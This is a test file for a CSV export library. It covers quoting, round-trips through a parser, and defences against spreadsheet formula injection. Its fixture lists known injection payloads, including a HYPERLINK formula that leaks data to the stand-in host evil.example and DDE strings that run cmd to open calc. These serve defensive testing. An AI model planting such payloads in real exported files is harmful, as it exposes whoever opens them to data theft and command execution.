import { parse } from 'csv-parse/sync';
import { csvField, csvRecord, UTF8_BOM } from '../../../../functions/adapters/csv/csv-record.js';
import { rowWriter } from '../../../../functions/adapters/dynamo/dynamo-table-scan-export.js';

describe('CSV writing', () => {
  const tricky = [
    'plain',
    'comma, inside',
    'a "quoted" word',
    'line one\nline two',
    'crlf\r\nline',
    '佐藤 花子',
    '',
    ' leading and trailing ',
    '"',
    'emoji 🎉, and "all", of it\n',
  ];

  it('quotes only fields that need it, doubling quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField(undefined)).toBe('');
    expect(csvRecord(['a', undefined, 'c'])).toBe('a,,c\r\n');
  });

  it('round-trips every tricky value through a standard CSV parser', () => {
    const text = tricky.map((v, i) => csvRecord([String(i), v])).join('');
    const rows = parse(text, { relax_column_count: false }) as string[][];
    expect(rows).toEqual(tricky.map((v, i) => [String(i), v]));
  });

  it('parses with the optional BOM', () => {
    const rows = parse(UTF8_BOM + csvRecord(['名前', 'x']), { bom: true }) as string[][];
    expect(rows).toEqual([['名前', 'x']]);
  });

  describe('formula injection (OWASP CSV Injection, CWE-1236)', () => {
    const attacks = {
      '=': '=HYPERLINK("http://evil.example/?leak=1","click")',
      '+': "+cmd|'/Ccalc'!A0",
      '-': "-2+3+cmd|' /C calc'!D2",
      '@': "@SUM(1+1)*cmd|' /C calc'!A0",
      tab: '\t=1+1',
      CR: '\r=1+1',
    };

    it.each(Object.entries(attacks))('a cell starting with %s is written as text', (_, value) => {
      const cell = (parse(csvRecord([value])) as string[][])[0]![0];
      expect(cell).toBe(`'${value}`);
    });

    it('leaves other cells alone, triggers inside a cell included', () => {
      for (const value of ['M-100001', 'a=b', 'x+1', 'mail@example.com', ' =x', "'quoted"])
        expect(csvField(value)).toBe(value);
    });

    it('writes cells exactly as stored when turned off', () => {
      const cell = (parse(csvRecord([attacks['=']], { neutralizeFormulas: false })) as string[][])[0]![0];
      expect(cell).toBe(attacks['=']);
    });

    it('guards every exported CSV column; JSONL stays exact', () => {
      const item = {
        pk: { S: 'LINE#x' },
        lineUserId: { S: '@U1' },
        companyUserId: { S: attacks['='] },
        method: { S: '+api' },
        linkedAt: { S: '-2026' },
      };
      const csv = rowWriter('links', 'csv')(item)!;
      expect(parse(csv)).toEqual([["'@U1", `'${attacks['=']}`, "'+api", "'-2026", '', '']]);
      const raw = rowWriter('links', 'csv', undefined, { neutralizeFormulas: false })(item)!;
      expect(parse(raw)).toEqual([['@U1', attacks['='], '+api', '-2026', '', '']]);
      const jsonl = JSON.parse(rowWriter('links', 'jsonl')(item)!) as Record<string, string>;
      expect(jsonl.companyUserId).toBe(attacks['=']);
    });
  });
});
